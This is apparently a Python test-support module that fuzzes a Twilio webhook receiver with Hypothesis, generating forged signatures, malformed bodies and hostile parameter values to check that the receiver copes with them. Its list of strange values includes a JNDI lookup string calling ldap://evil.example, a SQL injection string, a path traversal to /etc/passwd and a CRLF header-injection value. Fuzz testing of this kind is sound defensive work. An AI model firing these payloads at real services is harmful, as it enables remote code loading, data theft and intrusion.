"""Generates webhooks, most of them signed as Twilio signs them, and hostile media URLs."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, replace
from functools import partial
from hashlib import sha256
from urllib.parse import parse_qsl, quote, quote_plus

from hypothesis import strategies as st

from mediapipe.providers.base import WebhookRequest
from tests.support import make
from tests.support.bad_input.cases import CONVERSATIONS, MESSAGING, ORIGIN, RECORDING, Pairs
from tests.support.hostile_urls import HOSTILE_URLS
from tests.support.payloads import signing, twilio

# One of the two other accounts in bad_input/accounts.json has this token, the other has none.
OTHERS_TOKEN = "token-of-b"
WITHOUT_TOKEN = "AC" + "c3" * 16


@dataclass(frozen=True)
class Webhook:
    """A request, its content, and whether its account's own token signed it.

    If it must be taken in, `pairs` are its parameters and `media` the SIDs of its media.
    """

    request: WebhookRequest
    genuine: bool = True
    pairs: Pairs = ()
    media: frozenset[str] = frozenset()


# Values and names of parameters.

STRANGE = ["", "\0", "a\0b", "a\r\nX: y", "\x1b[2J", "\u202egpj.exe", "\ufeff", "\u0663", "\u00b2"]
STRANGE += ["%00", "%", "+", "&=", "${jndi:ldap://evil.example/}", "' OR 1=1--", "../../etc/passwd"]
STRANGE += ["x" * 300, "x" * 3_000, "\U0010ffff" * 100, "e" + "\u0301" * 500, "absent", "paused"]
NUMBERS = ["-1", "0", "1", "11", "51", "999999999", "9" * 5000, "1e9", "0x10", "NaN", " 1", "1.0"]
TEXTS = st.text(max_size=12) | st.sampled_from(STRANGE + NUMBERS)
SIDS = st.sampled_from(
    [twilio.MMS_SID, twilio.RECORDING_SID, WITHOUT_TOKEN, "AC" + "0" * 32, "MM" + "\uff11" * 32]
)


ORIGINS = [make.API, "http://api.twilio.com", "https://api.dublin.ie1.twilio.com"]

# Ways to encode a form or a query.

ESCAPES: list[Callable[[str], str]] = [
    quote_plus,
    partial(quote, safe=""),
    partial(quote, safe="/:,;@!'()*?[]{}|\\^\"<>"),
    lambda text: "".join(f"%{byte:02x}" for byte in text.encode()),
]


def form_of(pairs: Pairs, escape: Callable[[str], str] = quote_plus) -> str:
    return "&".join(f"{escape(name)}={escape(value)}" for name, value in pairs)


def with_query(url: str, query: str) -> str:
    return f"{url}{'&' if '?' in url else '?'}{query}"


def get(url: str, query: str) -> WebhookRequest:
    """Return a GET with this query; only the URL is signed."""
    target = with_query(url, query)
    return WebhookRequest("GET", target, {"x-twilio-signature": signing.sign(target)}, b"")


def posted_json(url: str, body: bytes) -> WebhookRequest:
    """Return a POST of valid or invalid JSON, with its hash in the signed URL."""
    target = with_query(url, f"bodySHA256={sha256(body).hexdigest()}")
    signature = signing.sign(target)
    return signing.post(body, url=target, signature=signature, content_type="application/json")


def posted_form(url: str, pairs: Pairs, body: bytes) -> WebhookRequest:
    return signing.post(body, url=url, signature=signing.sign(url, list(pairs)))


# Requests that no client sends.

BASES = [
    tuple(parse_qsl(body, keep_blank_values=True))
    for body in (twilio.MESSAGES | twilio.RECORDINGS | twilio.CONVERSATIONS).values()
]
KNOWN = {name for base in BASES for name, _ in base} | {"MediaUrl99", "MediaUrl-1", "bodySHA256"}
NAMES = st.sampled_from(["NumMedia", "MediaUrl0", "AccountSid", "MessageSid", *sorted(KNOWN)])
CHANGES: list[Callable[[Pairs, str, str], Pairs]] = [
    lambda pairs, name, value: tuple((n, value if n == name else v) for n, v in pairs),
    lambda pairs, name, value: tuple((n, v) for n, v in pairs if n != name),
    lambda pairs, name, value: (*pairs, (name, value)),
    lambda pairs, name, value: ((name, value), *pairs),
    lambda pairs, name, value: (*pairs, *((f"{name}{n}", value[:99]) for n in range(60))),
    lambda pairs, name, value: (*pairs, *((name, "") for _ in range(1000))),
]


@st.composite
def changed_pairs(draw: st.DrawFn) -> Pairs:
    """Draw a captured webhook with up to four changes to its parameters."""
    pairs = draw(st.sampled_from(BASES))
    values = TEXTS | HOSTILE_URLS | SIDS
    change = st.tuples(st.sampled_from(CHANGES), NAMES | TEXTS, values)
    for apply, name, value in draw(st.lists(change, max_size=4)):
        pairs = apply(pairs, name, value)
    return pairs


LATIN = st.text(st.characters(max_codepoint=255, exclude_characters="\0\r\n"), max_size=12)
PATHS = [MESSAGING] * 12 + [RECORDING] * 6 + [CONVERSATIONS, MESSAGING[:-1], f"{MESSAGING}x"]
PATHS += [f"{ORIGIN}/{path}" for path in ("/webhooks/twilio/messaging/", "webhooks/\xff%ff%00")]
QUERIES = ["a=%", "%ff", "a=%zz", "a=%00", "a=b#c", "%F0%9F%93%B7", "?", "&&&", "a=%c0%af", "\xff"]
QUERIES += ["a=" + "x" * 5000, "AccountSid=AC0", "bodySHA256=0", "a&" * 1001, "a=%ed%a0%80"]
URLS = st.builds(
    lambda path, query: f"{path}?{query}" if query else path,
    st.sampled_from(PATHS),
    st.sampled_from([""] * 30 + QUERIES) | LATIN,
)
DOCUMENTS = ["", "[]", "null", "{", "[" * 9000, '{"a":' * 3000, "\ufeff{}", "1" * 5000, '"\\ud800"']
VALUES = [
    "NaN",
    "-1e999",
    "9" * 4000,
    "9" * 5000,
    '"\\ud800"',
    '"\\u0000"',
    '"\\x"',
    '"',
    "{}",
    "\0",
]
VALUES += ['{"":{"a":[]}}', "[" * 900 + "]" * 900, "[" * 9000 + "]" * 9000, '1,"AccountSid":[]']
JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | TEXTS, st.lists, max_leaves=5
)
DOCUMENT = f'{{"AccountSid":"{make.ACCOUNT}","MessageSid":"{twilio.MMS_SID}","MediaUrl0":%s}}'
BODIES = (
    st.sampled_from(DOCUMENTS)
    | (st.sampled_from(VALUES) | JSON_VALUES.map(json.dumps)).map(lambda value: DOCUMENT % value)
    | changed_pairs().map(lambda pairs: json.dumps(dict(pairs)))
).map(str.encode) | st.binary(max_size=40)
FORMS = st.builds(
    lambda url, pairs, escape: posted_form(url, pairs, form_of(pairs, escape).encode()),
    URLS,
    changed_pairs(),
    st.sampled_from(ESCAPES),
)
BROKEN_FORMS = st.builds(
    lambda url, more: posted_form(url, BASES[1], form_of(BASES[1]).encode() + more),
    URLS,
    st.binary(max_size=9),
)
GETS = st.builds(lambda url, pairs: get(url, form_of(pairs)), URLS, changed_pairs())
SENT = [*[FORMS] * 6, BROKEN_FORMS, *[st.builds(posted_json, URLS, BODIES)] * 2, GETS]


def signature_with(token: str, request: WebhookRequest) -> str:
    """Return a function that signs a request with this token."""
    form = request.headers.get("content-type") == signing.FORM
    body = request.body.decode(errors="replace") if form else ""
    return signing.sign(request.url, parse_qsl(body, keep_blank_values=True), token)


FORGERIES: list[Callable[[WebhookRequest], str]] = [
    lambda request: "",
    partial(signature_with, "54321"),
    partial(signature_with, OTHERS_TOKEN),
    lambda request: signature_with(make.TOKEN, replace(request, url=f"{request.url}x")),
    lambda request: request.headers["x-twilio-signature"].swapcase(),
    lambda request: request.headers["x-twilio-signature"] * 2,
]
HARMLESS = """x-forwarded-host x-forwarded-proto x-forwarded-port x-forwarded-for forwarded cookie
    x-original-url x-rewrite-url x-http-method-override x-home-region i-twilio-idempotency-token"""
HEADER_VALUES = LATIN | st.sampled_from(
    ["evil.example", "https", "http", "-1", "65536", "\xff" * 300, "PUT"]
)
HEADERS = st.dictionaries(st.sampled_from(HARMLESS.split()), HEADER_VALUES, max_size=2)
HARMFUL = "host content-type content-length x-twilio-webhooks-signature-settings authorization"
TYPES = ["application/json", "multipart/form-data; boundary=x", "text/plain", "testserver:80"]
METHODS = ["PUT", "HEAD", "OPTIONS", "TRACE", "DELETE", "PATCH", "CONNECT", "get", "post", "X-Y"]
RARELY = st.sampled_from([False] * 9 + [True])


@st.composite
def webhooks(draw: st.DrawFn) -> Webhook:
    """Draw any request; most are signed, and many are valid."""
    request = draw(draw(st.sampled_from(SENT)))
    headers = {**request.headers, **draw(HEADERS)}
    if forged := draw(RARELY):
        headers["x-twilio-signature"] = draw(st.sampled_from(FORGERIES))(request)
    if draw(RARELY):
        values = HEADER_VALUES | st.sampled_from(TYPES) | st.integers().map(str)
        headers[draw(st.sampled_from(HARMFUL.split()))] = draw(values)
    method = draw(st.sampled_from(METHODS)) if draw(RARELY) else request.method
    return Webhook(replace(request, method=method, headers=headers), genuine=not forged)


# Requests that must be taken in, however odd they are.

FREE = [
    "Body",
    "From",
    "To",
    "FromCity",
    "ProfileName",
    "NumMedia",
    "MediaContentType0",
    "ErrorCode",
]
OTHER_NAMES = st.sampled_from(FREE) | TEXTS.filter(lambda name: name not in KNOWN)
OTHERS = st.lists(st.tuples(OTHER_NAMES, TEXTS), max_size=3).map(tuple)
MEDIA = {f"{o}{twilio.MESSAGE_PATH}/{sid}": sid for o in ORIGINS for sid in twilio.MEDIA_SIDS}
RECORDINGS = {twilio.RECORDING_URL.replace(make.API, o): twilio.RECORDING_SID for o in ORIGINS}
MEDIA_URLS = st.sampled_from(list(MEDIA)) | HOSTILE_URLS
NUMBERED = st.dictionaries(st.integers(0, 10**9 - 1), MEDIA_URLS, max_size=4)
ENDINGS = st.sampled_from(["", "?tenant=7", "?a=%zz&b=%ff", "?AccountSid=AC0", "?;=\xe9"])
ACCOUNT: Pairs = (("AccountSid", make.ACCOUNT),)


@st.composite
def announcements(draw: st.DrawFn) -> tuple[str, Pairs, frozenset[str]]:
    """Draw a webhook URL, the parameters that announce media there, and the SIDs of the media."""
    if draw(st.booleans()):
        numbered = draw(NUMBERED)
        announced = tuple((f"MediaUrl{number}", url) for number, url in numbered.items())
        found = frozenset(MEDIA[url] for url in numbered.values() if url in MEDIA)
        return MESSAGING, (*ACCOUNT, ("MessageSid", twilio.MMS_SID), *announced), found
    url = draw(st.sampled_from(list(RECORDINGS)) | HOSTILE_URLS)
    sids = (("RecordingSid", twilio.RECORDING_SID), ("CallSid", twilio.CALL_SID))
    found = frozenset({RECORDINGS[url]} if url in RECORDINGS else ())
    return RECORDING, (*sids, ("RecordingUrl", url), *ACCOUNT), found


@st.composite
def acceptable(draw: st.DrawFn) -> Webhook:
    """Draw a webhook that must get a 200, with what must be recorded of it."""
    url, announced, media = draw(announcements())
    pairs: Pairs = (*draw(OTHERS), *announced, *draw(OTHERS))
    escape = draw(st.sampled_from(ESCAPES))
    shape = draw(st.sampled_from(["form", "form", "json", "get"]))
    if shape == "form":
        url += draw(ENDINGS)
        request = posted_form(url, pairs, form_of(pairs, escape).encode())
    elif shape == "json":
        pairs = tuple(dict(pairs).items())
        body = json.dumps(dict(pairs), ensure_ascii=draw(st.booleans()))
        request = posted_json(url, body.encode())
    else:
        request = get(url, form_of(pairs, escape))
    headers = {**request.headers, **draw(HEADERS)}
    return Webhook(replace(request, headers=headers), pairs=pairs, media=media)
